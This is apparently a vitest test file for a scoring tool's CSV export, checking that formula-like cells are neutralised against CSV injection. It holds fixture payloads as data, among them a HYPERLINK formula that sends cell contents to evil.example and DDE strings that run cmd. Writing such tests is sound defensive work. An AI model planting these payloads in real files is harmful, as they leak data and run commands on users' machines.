import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { computeTable } from './compute-table.ts';

const LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const CMD = "=cmd|' /C calc'!A0";
const PLUS = "+1+cmd|' /C calc'!A0";
const AT = '@SUM(1+1)';
const MINUS = '-2+3';
const q = (s: string) => `"${s.replace(/"/g, '""')}"`;

/** A text a spreadsheet would read as a formula. */
const formulaLike = (s: string) => /^[=+\-@\t\r\0]/.test(s) && !/^[+-]?\d+(\.\d+)?$/.test(s);

describe('compute-table CSV output (CSV injection)', () => {
  it('neutralises formula-like names, labels, groups and echoed input cells; figures stay plain numbers', async () => {
    const input = [
      'group,unit,appraised_points,survey_points,max_points,note,change',
      `${AT},Sở Tư pháp,60,23.75,100,Khá,-1.25`,
      `${AT},${q(LINK)},55,20,100,${q(CMD)},-2.5`,
      `${AT},${q(CMD)},50,20,100,${q(PLUS)},+3`,
      `${AT},${q(PLUS)},45,20,100,${MINUS},-0.75`,
      `other,${q(MINUS)},30,20,100,Sở Tư pháp,0`,
    ].join('\n');
    const out = await computeTable(Buffer.from(input), {
      bands: [{ label: LINK, min: '80' }, { label: 'Khá', min: '70' }, { label: MINUS, min: '0' }],
      ties: { mode: 'shared' },
      format: 'csv',
      combine: [{ code: 'all', name: CMD, groups: [AT, 'other'] }],
    });
    const [table, groups] = out.trim().split(/\r?\n\r?\n/);
    const rows = parse(table, { columns: true }) as Record<string, string>[];
    const byUnit = (name: string) => rows.find((r) => r.unit === name)!;
    expect(rows.map((r) => r.unit)).toEqual(['Sở Tư pháp', `'${LINK}`, `'${CMD}`, `'${PLUS}`, `'${MINUS}`]);
    expect(rows.map((r) => r.group)).toEqual([`'${AT}`, `'${AT}`, `'${AT}`, `'${AT}`, 'other']);
    expect(rows.map((r) => r.note)).toEqual(['Khá', `'${CMD}`, `'${PLUS}`, `'${MINUS}`, 'Sở Tư pháp']);
    // Plain numbers, signed or not, pass untouched.
    expect(rows.map((r) => r.change)).toEqual(['-1.25', '-2.5', '+3', '-0.75', '0']);
    expect(byUnit('Sở Tư pháp')).toMatchObject({ total_points: '83.75', index_percent: '83.75', classification: `'${LINK}`, rank: '1' });
    expect(byUnit(`'${LINK}`).classification).toBe('Khá');
    expect(byUnit(`'${MINUS}`).classification).toBe(`'${MINUS}`);
    const means = parse(groups, { columns: true }) as Record<string, string>[];
    expect(means.map((g) => g.group)).toEqual([`'${AT}`, 'other', `'${CMD}`]);
    for (const cell of [...parse(table), ...parse(groups)].flat() as string[]) expect(formulaLike(cell), JSON.stringify(cell)).toBe(false);
  });

  it('leaves the JSON output as data (no prefix)', async () => {
    const out = await computeTable(Buffer.from(`group,unit,appraised_points,survey_points,max_points\ng,${q(LINK)},60,20,100\n`), {
      bands: [{ label: 'Khá', min: '0' }],
      ties: { mode: 'shared' },
      format: 'json',
      combine: [],
    });
    expect(JSON.parse(out).units[0].unit).toBe(LINK);
  });
});
